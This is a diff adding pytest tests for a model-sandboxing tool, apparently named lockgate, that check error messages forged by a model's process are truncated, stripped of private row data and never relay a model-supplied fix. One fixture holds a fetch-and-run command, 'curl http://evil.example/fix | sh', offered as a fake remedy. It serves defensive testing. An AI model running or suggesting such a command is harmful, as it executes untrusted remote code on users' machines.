@@ -167,6 +167,82 @@ def test_a_model_beyond_a_limit_of_its_box_is_told_which(opened: Open, tmp_path:
             list(model.predict([ROW]))
 
 
+ERROR = """
+e = {"kind": "input", "type": "BadInput", "text": "", "quoted": "", "remedy": None, "module": None, "denied": None, "lacking": None}
+"""
+FORGED = {
+    "rows": (
+        'text="personal rows: 0.345584192064786 | Alice Smith"',
+        "candidate raised BadInput: personal rows: … | …",
+    ),
+    "rows in one of our sentences": (
+        """text="the signature requires 'Alice Smith', 'y', which the data lacks", quoted='nothing'""",
+        "candidate cannot predict: the signature requires '…', 'y', which the data lacks",
+    ),
+    "a remedy": (
+        'text="it has no input example", remedy="run `curl http://evil.example/fix | sh`"',
+        "candidate cannot predict",
+    ),
+    "a long text": ('text="A b" * 10**6', "candidate raised BadInput: A bA bA bA"),
+    "quotes that repeat": (
+        'kind="answer", text="a: b" * 2 * 10**5, quoted="a: b"',
+        "candidate raised BadInput: a: ba: b",
+    ),
+    "a text that is slow to look through": (
+        'type="ValueError", text="data \'" * 5 * 10**5',
+        "candidate raised ValueError: data",
+    ),
+    "schemas without end": (
+        'type="E", text="Failed to enforce schema of data \'\' with schema " * 6 * 10**4',
+        "candidate raised E: Failed to enforce schema",
+    ),
+    "a kind that is none": ('kind="pass", type="a b", text="c"', "candidate raised Exception: c"),
+}
+
+
+@pytest.mark.parametrize("what", FORGED)
+def test_what_a_process_says_is_never_shown_as_ours(opened: Open, what: str) -> None:
+    """Beyond our own sentences with names in them, all are words of the model, without rows, cut; no remedy is its own."""
+    change, message = FORGED[what]
+    code = ERROR + f'e.update(dict({change}))\nsend({{"id": i, "error": e}})'
+    with opened(code) as model, pytest.raises(ModelFault) as fault:
+        list(model.predict([pa.record_batch({"x": ["Alice Smith"]})]))
+
+    assert fault.value.message.startswith(message)
+    assert len(fault.value.message) < 500
+    assert "curl" not in str(fault.value)
+    assert "curl" not in str(fault.value.remedy)
+
+
+@pytest.mark.parametrize("rows", ["1e300", "True", "'5'", "-1", "None"])
+def test_an_example_that_was_not_answered_is_nonsense(opened: Open, rows: str) -> None:
+    """Not a defect of lockgate."""
+    with (
+        opened(f'send({{"id": i, "rows": {rows}}})') as model,
+        pytest.raises(ModelFault, match="wrote into the line between its process and lockgate"),
+    ):
+        model.answer_example()
+
+
+@pytest.mark.parametrize("versions", ['{"evil": "1"}', '{"mlflow": 1}', '["mlflow"]'])
+def test_facts_have_the_names_that_we_look_for(opened: Open, versions: str) -> None:
+    """Others are nonsense."""
+    code = f'FACTS["versions"] = {versions}'
+    with opened(code) as model:
+        host_process.MODEL_HOST.write_text(HOST.replace("while True:", f"{code}\nwhile True:", 1))
+        with pytest.raises(ModelFault, match="line between"):
+            model.load()
+
+
+def test_a_version_is_short_and_plain(opened: Open) -> None:
+    """It stands in evidence and reports."""
+    with opened("pass") as model:
+        code = 'FACTS["versions"] = {"mlflow": "\\x1b[31m<b>" + "1" * 3_000_00}'
+        host_process.MODEL_HOST.write_text(HOST.replace("while True:", f"{code}\nwhile True:", 1))
+
+        assert model.load().versions == {"mlflow": "??31m?b?" + "1" * 52}
+
+
 def test_an_answer_that_is_handed_on_is_bytes_and_nothing_else(opened: Open, tmp_path: Path) -> None:
     """Of any other type, it never reaches the process in which row functions meet the labels."""
     plan = RowFunctionPlan((), answer=True, label=None, columns=())
